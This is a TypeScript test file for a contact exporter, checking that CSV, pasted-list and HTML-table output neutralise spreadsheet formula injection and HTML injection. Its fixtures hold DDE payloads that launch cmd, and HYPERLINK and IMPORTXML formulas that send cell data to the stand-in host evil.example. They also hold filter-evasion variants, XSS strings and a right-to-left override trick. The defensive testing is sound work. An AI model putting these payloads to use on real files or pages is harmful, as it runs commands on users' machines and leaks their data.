import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Contact } from '../../src/contact/contact.ts';
import type { Card } from '../../src/exchange/card.ts';
import { type CsvLayout, writeCsv } from '../../src/exchange/tables/write/csv-write.ts';
import { disarmed, readDisarmed } from '../../src/exchange/tables/write/disarm.ts';
import { writeList, writeTable } from '../../src/exchange/tables/write/list-write.ts';
import { cardOf, WORDS } from '../exchange/cards.ts';
import { pasted } from '../exchange/tables/write/pasted.ts';
import { judges } from '../exchange/tables/write/spreadsheet-judge.ts';

/** What a page, a card or a note could hold so that the colleague who opens the list in a spreadsheet runs it. Each is harmless where it is text. */
const FORMULAS: Readonly<Record<string, string>> = {
  'a formula': '=1+1',
  'a program of Windows': "=cmd|' /C calc'!A1",
  'a program, as a sum': '@SUM(1+1)*cmd|" /C calc"!A1',
  'a program, added': '+cmd|" /C calc"!A1',
  'a program, taken away': '-2+3+cmd|" /C calc"!A1',
  'the next cell sent away': '=HYPERLINK("https://evil.example/?x="&A1,"Ring")',
  'the next cell sent away by Google Sheets': '=IMPORTXML(CONCAT("https://evil.example/?x=",A1),"//a")',
  'a formula behind a space': ' =1+1',
  'a formula behind a space without break': '\u00a0=1+1',
  'a formula behind what is not seen': '\u200b\ufeff=1+1',
  'a formula behind a tab': '\t=1+1',
  'a formula behind a carriage return': '\r=1+1',
  'a formula in quotes': '"=1+1"',
  'a formula behind an apostrophe': "'=1+1",
  'a formula that ends the cell before it': 'x","=1+1',
  'a formula behind another separator': 'x;=1+1',
  'a formula behind another separator, in quotes': 'x;"=1+1";y',
  'a formula behind the separator': 'x,=1+1',
  'a formula behind a tab in a text': 'x\t=1+1',
  'a formula in a line of its own': 'x\n=1+1',
  'a formula in a line of its own, behind spaces': 'x\r\n  =1+1\r\ny',
  'a sum in full width': '＝1+1',
  'signs in full width': '＋1－1＠x',
  'a sum in small signs': '﹦1﹢1',
};

/** Every field that a card takes from a page or from the journalist; what they hold instead of a number is nothing that can be dialled. */
const FIELDS: Readonly<Record<string, (text: string) => Card>> = {
  name: (name) => cardOf({ name }),
  jobTitle: (jobTitle) => cardOf({ jobTitle }),
  organization: (name) => cardOf({ organization: { name, units: [name, name], address: { street: name, locality: name, country: name } } }),
  number: (number) => cardOf({ phones: [{ number, features: ['mobile'], label: number, extension: number, hours: { text: number } }] }),
  email: (address) => cardOf({ emails: [{ address, label: address }] }),
  tag: (tag) => cardOf({}, { tags: [tag, tag] }),
  note: (note) => cardOf({}, { note }),
  source: (title) =>
    cardOf({}, { sources: [{ address: 'https://ekstad.example/', site: title, title, firstSeenAt: title, lastSeenAt: title }] }),
  dates: (text) => cardOf({}, { id: text, confirmedAt: text, revisedAt: text }),
};
const cards = Object.values(FORMULAS).flatMap((text) => Object.values(FIELDS).map((put) => put(text)));
const LAYOUTS = ['own', 'google', 'outlook'] as const;

function written(layout: CsvLayout, language = 'sv'): string {
  return [...writeCsv(cards, layout, { ...WORDS, language })].join('');
}

describe.each(judges())('in a file of CSV, as %s opens it', (name, judge) => {
  test.each(LAYOUTS)(
    'no cell is a formula: %s',
    (layout) => {
      const rows = judge(written(layout), layout === 'own' ? ';' : ',');
      expect(rows.length).toBeGreaterThan(cards.length);
      expect(rows.flat().filter(({ kind }) => kind === 'formula')).toEqual([]);
    },
    60_000,
  );

  test.each([
    ['own', 'en', ';'],
    ['own', 'sv', ','],
    ['google', 'sv', ';'],
    ['outlook', 'sv', '\t'],
  ] as const)(
    'nor where it takes another separator for the file’s: %s, %s, %j',
    (layout, language, separator) => {
      const rows = judge(written(layout, language), separator);
      expect(rows.flat().filter(({ kind }) => kind === 'formula')).toEqual([]);
    },
    60_000,
  );

  // Otherwise nothing would be shown by the tests above.
  test('the same formulas, written as they are, do run', () => {
    const asTheyAre = Object.values(FORMULAS).map((text) => `x,"${text.replaceAll('"', '""')}"\r\n`);
    const ran = judge(asTheyAre.join(''), ',')
      .flat()
      .filter(({ kind }) => kind === 'formula');
    expect(ran.length, name).toBeGreaterThan(3);
  }, 60_000);
});

test.each(Object.entries(FORMULAS))('a text that holds %s is disarmed, and read as it was', (_, text) => {
  expect(disarmed(text)).not.toBe(text);
  expect(readDisarmed(disarmed(text))).toBe(text);
});

test('every text is read as it was, and none that begins a formula is left', () => {
  const pieces = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', ' ', '"', "'", ',', ';', 'a', '\u200b', '\u00a0');
  const texts = fc.array(pieces, { maxLength: 12 }).map((some) => some.join(''));
  const holds = fc.property(texts, (text) => {
    const safe = disarmed(text);
    return readDisarmed(safe) === text && safe.split(/[\n\r]/).every((line) => !/^[\s"\u200b]*[=+\-@＝]/.test(line));
  });
  fc.assert(holds, { numRuns: 10_000, seed: 20_261_127 });
});

test.each(['Ring före nio - eller efter fem', 'kl 8, -17', 'a=b', 'IT-chef', 'x@ekstad.example', 'https://ekstad.example/?a=1', "d'Arc"])(
  'a text that begins nothing stays as it is: %s',
  (text) => expect(disarmed(text)).toBe(text),
);

describe('pasted from a list or table', () => {
  const words = { ...WORDS, home: 'SE' };

  test('no line and no cell begins a formula', () => {
    const starts = [...pasted(writeList(cards, words)).text.split('\n'), ...pasted(writeTable(cards, words)).text.split(/[\n\t]/)];
    expect(starts.filter((text) => /^[\s"\p{Cf}]*[=+\-@＝＋－＠﹦﹢]/u.test(text))).toEqual([]);
  });

  test.each([
    ['an element', '<img src=x onerror=alert(1)>'],
    ['the end of the table', '</td></tr></table><script>alert(1)</script>'],
    ['the end of an attribute', '" onmouseover="alert(1)'],
    ['an entity', '&lt;script&gt;'],
    ['a text turned around', 'x\u202e99604710764+'],
  ])('%s is text in the table', (_, text) => {
    const values: Partial<Contact> = {
      name: text,
      jobTitle: text,
      phones: [{ number: text, features: [], label: text }],
      emails: [{ address: text }],
    };
    const { html } = pasted(writeTable([cardOf(values)], words));
    expect(html.replace(/<\/?(?:table|thead|tbody|tr|th|td|br|a|meta)(?: (?:[a-z]+="[^"<>]*"))*>/g, '')).not.toMatch(/[<>"\u202e]/);
    expect(html.match(/ on[a-z]+="/)).toBeNull();
    expect(html.match(/&(?!#\d+;)/)).toBeNull();
  });
});
